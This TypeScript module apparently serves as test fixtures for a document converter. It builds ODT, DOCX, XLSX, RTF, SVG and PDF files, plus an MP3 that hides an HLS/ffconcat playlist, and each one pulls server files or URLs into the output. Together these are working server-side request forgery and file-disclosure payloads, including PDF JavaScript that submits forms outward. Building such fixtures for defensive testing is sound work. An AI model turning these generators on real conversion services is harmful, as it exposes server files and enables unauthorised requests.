/**
 * Valid documents that link content from outside themselves: an absolute path on the server or a
 * URL (the beacon). A converter that follows the link leaks a server file into the output or
 * makes a request as the server. Built here, byte by byte, with fflate.
 */
import { strToU8, zipSync, type Zippable } from 'fflate';

function zip(entries: Record<string, string>, first?: { name: string; data: string }): Buffer {
  const files: Zippable = {};
  // ODF: the mimetype entry comes first and is stored, not deflated.
  if (first) files[first.name] = [strToU8(first.data), { level: 0 }];
  for (const [name, data] of Object.entries(entries)) files[name] = strToU8(data);
  return Buffer.from(zipSync(files));
}

const escapeXml = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

const ODF_NS = [
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"',
  'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
  'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"',
  'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"',
  'xmlns:xlink="http://www.w3.org/1999/xlink"',
  'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"',
  'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"',
].join(' ');

function odt(body: string): Buffer {
  const content =
    `<?xml version="1.0" encoding="UTF-8"?>
<office:document-content ${ODF_NS} office:version="1.2"><office:body><office:text>${body}</office:text>` +
    `</office:body></office:document-content>`;
  const manifest = `<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
 <manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>
</manifest:manifest>`;
  const styles = `<?xml version="1.0" encoding="UTF-8"?>
<office:document-styles ${ODF_NS} office:version="1.2"><office:styles/></office:document-styles>`;
  return zip(
    { 'META-INF/manifest.xml': manifest, 'content.xml': content, 'styles.xml': styles },
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' },
  );
}

/** An ODT showing an image linked (not embedded) from `href`: a file:// URL or http://. */
export function odtWithLinkedImage(href: string): Buffer {
  return odt(
    `<text:p>Linked image below.</text:p><text:p><draw:frame draw:name="img" text:anchor-type="as-char" ` +
      `svg:width="4cm" svg:height="4cm"><draw:image xlink:href="${escapeXml(href)}" xlink:type="simple" ` +
      `xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
  );
}

/** An ODT whose section is linked to `href` (its text would be pulled in on update). */
export function odtWithLinkedSection(href: string): Buffer {
  return odt(
    `<text:p>Linked section below.</text:p><text:section text:name="Linked"><text:section-source ` +
      `xlink:href="${escapeXml(href)}" xlink:type="simple" ` +
      `text:filter-name="Text"/><text:p>placeholder</text:p></text:section>`,
  );
}

/** An ODF package of `mimetype` whose body is `body` (content.xml) with empty styles. */
function odf(mimetype: string, body: string): Buffer {
  const content = `<?xml version="1.0" encoding="UTF-8"?>
<office:document-content ${ODF_NS} office:version="1.2"><office:body>${body}</office:body></office:document-content>`;
  const manifest = `<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
 <manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>
</manifest:manifest>`;
  const styles = `<?xml version="1.0" encoding="UTF-8"?>
<office:document-styles ${ODF_NS} office:version="1.2"><office:styles/></office:document-styles>`;
  return zip(
    { 'META-INF/manifest.xml': manifest, 'content.xml': content, 'styles.xml': styles },
    { name: 'mimetype', data: mimetype },
  );
}

/** A picture frame linking (not embedding) `href`, placed on a sheet or a slide. */
const linkedFrame = (href: string) =>
  `<draw:frame draw:name="linked" svg:width="4cm" svg:height="4cm" svg:x="1cm" svg:y="1cm"><draw:image ` +
  `xlink:href="${escapeXml(href)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>`;

/** An ODS whose sheet shows a picture linked from `href`, beside the text "Linked image sheet". */
export function odsWithLinkedImage(href: string): Buffer {
  return odf(
    'application/vnd.oasis.opendocument.spreadsheet',
    `<office:spreadsheet><table:table table:name="Sheet1"><table:shapes>${linkedFrame(href)}</table:shapes>` +
      `<table:table-row><table:table-cell office:value-type="string"><text:p>Linked image sheet</text:p>` +
      `</table:table-cell></table:table-row></table:table></office:spreadsheet>`,
  );
}

/** An ODP whose slide shows a picture linked from `href`, beside the text "Linked image slide". */
export function odpWithLinkedImage(href: string): Buffer {
  return odf(
    'application/vnd.oasis.opendocument.presentation',
    `<office:presentation><draw:page draw:name="p1">${linkedFrame(href)}<draw:frame svg:width="10cm" ` +
      `svg:height="2cm" svg:x="1cm" svg:y="8cm"><draw:text-box><text:p>Linked image slide</text:p></draw:text-box>` +
      `</draw:frame></draw:page></office:presentation>`,
  );
}

/** An RTF with an INCLUDEPICTURE field on `picture` and an INCLUDETEXT field on `text` (server paths or URLs). */
export function rtfWithLoadingFields(picture: string, text: string): string {
  const rtfPath = (p: string) => p.replace(/\\/g, '\\\\');
  return (
    '{\\rtf1\\ansi{\\fonttbl{\\f0 Helvetica;}}\\f0 Before the fields.\\par ' +
    `{\\field{\\*\\fldinst INCLUDEPICTURE "${rtfPath(picture)}" \\\\* MERGEFORMAT}{\\fldrslt }}\\par ` +
    `{\\field{\\*\\fldinst INCLUDETEXT "${rtfPath(text)}"}{\\fldrslt }}\\par After the fields.\\par}`
  );
}

/**
 * An "MP3" that is an empty ID3v2 tag whose header declares a footer, then `list` (an ffconcat or HLS playlist).
 * Sniffing skips the tag's header and finds an MPEG audio frame header where the footer should be: MP3. ffmpeg's
 * prober skips header and footer and finds the list.
 */
export function mp3HidingList(list: string): Buffer {
  const header = Buffer.from([0x49, 0x44, 0x33, 0x04, 0x00, 0x10, 0x00, 0x00, 0x00, 0x00]);
  const frameHeaderAsFooter = Buffer.from([0xff, 0xfb, 0x90, 0x64, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]);
  return Buffer.concat([header, frameHeaderAsFooter, Buffer.from(list, 'utf8')]);
}

/** A one-page PDF whose content stream is the external file `file` (a stream's /F key): its text would print. */
export function pdfWithExternalContent(file: string): Buffer {
  const literal = (text: string) => `(${text.replace(/[()\\]/g, (c) => `\\${c}`)})`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [5 0 R 4 0 R] /Resources << /Font << /F1 << ' +
      '/Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>',
    `<< /Length 0 /F ${literal(file)} >>\nstream\n\nendstream`,
    '<< /Length 48 >>\nstream\nBT /F1 18 Tf 72 740 Td (External content) Tj ET\n\nendstream',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body +=
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const W_NS =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function docx(body: string, relationships: string): Buffer {
  return zip({
    '[Content_Types].xml':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
      `<Default Extension="xml" ContentType="application/xml"/>` +
      `<Override PartName="/word/document.xml" ` +
      `ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
      `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document ${W_NS} xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ` +
      `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ` +
      `xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}<w:p><w:r><w:t>End.</w:t>` +
      `</w:r>` +
      `</w:p></w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`,
  });
}

/** A DOCX whose picture is an external relationship (`TargetMode="External"`) to `href`. */
export function docxWithLinkedImage(href: string): Buffer {
  const drawing =
    `<w:p><w:r><w:t>Linked image below.</w:t></w:r></w:p><w:p><w:r><w:drawing><wp:inline><wp:extent ` +
    `cx="1440000" cy="1440000"/><wp:docPr id="1" name="Picture 1"/><a:graphic><a:graphicData ` +
    `uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" ` +
    `name="linked"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ` +
    `r:link="rIdImage"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" ` +
    `y="0"/><a:ext cx="1440000" cy="1440000"/></a:xfrm><a:prstGeom ` +
    `prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  return docx(
    drawing,
    `<Relationship Id="rIdImage" Type="${REL}/image" Target="${escapeXml(href)}" TargetMode="External"/>`,
  );
}

/** A DOCX with an altChunk (a document imported in place) and a subdocument, both pointing at `href`. */
export function docxWithAltChunkAndSubDocument(altChunkHref: string, subDocumentHref: string): Buffer {
  return docx(
    `<w:p><w:r><w:t>Chunks below.</w:t></w:r></w:p><w:altChunk r:id="rIdChunk"/><w:p><w:subDoc r:id="rIdSub"/></w:p>`,
    `<Relationship Id="rIdChunk" Type="${REL}/aFChunk" Target="${escapeXml(altChunkHref)}" ` +
      `TargetMode="External"/><Relationship Id="rIdSub" Type="${REL}/subDocument" ` +
      `Target="${escapeXml(subDocumentHref)}" TargetMode="External"/>`,
  );
}

/** An XLSX whose A1 is a formula on another workbook at `href` (an external link), with a cached value. */
export function xlsxWithExternalLink(href: string): Buffer {
  const ns =
    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
  return zip({
    '[Content_Types].xml':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
      `<Default Extension="xml" ContentType="application/xml"/>` +
      `<Override PartName="/xl/workbook.xml" ` +
      `ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
      `<Override PartName="/xl/worksheets/sheet1.xml" ` +
      `ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
      `<Override PartName="/xl/externalLinks/externalLink1.xml" ` +
      `ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`,
    '_rels/.rels':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
      `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook ${ns}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><externalReferences>` +
      `<externalReference r:id="rId2"/></externalReferences><calcPr fullCalcOnLoad="1"/></workbook>`,
    'xl/_rels/workbook.xml.rels':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
      `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
      `<Relationship Id="rId2" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet ${ns}><sheetData><row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>42</v></c><c r="B1" t="inlineStr"><is><t>` +
      `linked value</t></is></c></row><row r="2"><c r="A2" ` +
      `t="str"><f>WEBSERVICE("${escapeXml(href)}")</f><v>cached</v>` +
      `</c></row></sheetData></worksheet>`,
    'xl/externalLinks/externalLink1.xml':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<externalLink ${ns}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet>` +
      `<sheetData sheetId="0"><row r="1"><cell ` +
      `r="A1"><v>42</v></cell></row></sheetData></sheetDataSet></externalBook>` +
      `</externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
      `<Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="${escapeXml(href)}" TargetMode="External"/>` +
      `</Relationships>`,
  });
}

/** An SVG pulling images, a use target and a stylesheet from `hrefs` (file:// and http:// alike). */
export function svgWithExternalRefs(hrefs: readonly string[]): string {
  const refs = hrefs
    .map(
      (href, i) =>
        `<image x="${i * 10}" y="0" width="40" height="40" href="${escapeXml(href)}"/><image x="${i * 10}" y="50" ` +
        `width="40" height="40" xlink:href="${escapeXml(href)}"/><use href="${escapeXml(href)}#shape"/>`,
    )
    .join('');
  const imports = hrefs.map((href) => `@import url("${escapeXml(href)}");`).join('');
  return (
    `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="100" ` +
    `viewBox="0 0 120 100"><style>${imports} rect { fill: #3a6; }</style><rect x="0" y="0" width="120" height="100"/>` +
    `${refs}</svg>`
  );
}

/**
 * A one-page PDF whose actions all point outside: an OpenAction JavaScript that submits a form
 * and imports data from `url`, a Launch of `localFile`, a link (URI) and a remote go-to (GoToR)
 * to both, and an embedded-file reference by path. Written with a correct cross-reference table.
 */
export function pdfWithExternalActions(url: string, localFile: string): Buffer {
  const literal = (text: string) => `(${text.replace(/[()\\]/g, (c) => `\\${c}`)})`;
  const js =
    `app.launchURL(${JSON.stringify(url)}); this.submitForm(${JSON.stringify(url)}); ` +
    `this.importDataObject("x", ${JSON.stringify(localFile)});`;
  const stream = 'BT /F1 18 Tf 72 720 Td (Hostile actions inside) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(init) 5 0 R] >> >> /AA << ` +
      `/WC 6 0 R >> >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font ` +
      `/Subtype /Type1 /BaseFont /Helvetica >> >> >> /Annots [7 0 R 8 0 R 9 0 R] /AA << /O 6 0 R >> >>`,
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    `<< /Type /Action /S /JavaScript /JS ${literal(js)} /Next 10 0 R >>`,
    `<< /Type /Action /S /Launch /F << /Type /Filespec /F ${literal(localFile)} /UF ${literal(localFile)} >> /Win << ` +
      `/F ${literal(localFile)} >> /NewWindow true >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /URI /URI ${literal(url)} >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /Border [0 0 0] /A << /S /GoToR /F << /Type /Filespec /F ` +
      `${literal(localFile)} >> /D [0 /Fit] >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 520 300 540] /Border [0 0 0] /A 6 0 R >>`,
    `<< /Type /Action /S /SubmitForm /F << /FS /URL /F ${literal(url)} >> /Flags 4 >>`,
  ];
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body +=
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f ` +
    `\n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** An HLS playlist (what ffmpeg probes it as, whatever the file is called) whose segment is `target`. */
export function hlsPlaylist(target: string): string {
  return (
    '#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n' +
    `#EXTINF:10.0,\n${target}\n#EXT-X-ENDLIST\n`
  );
}
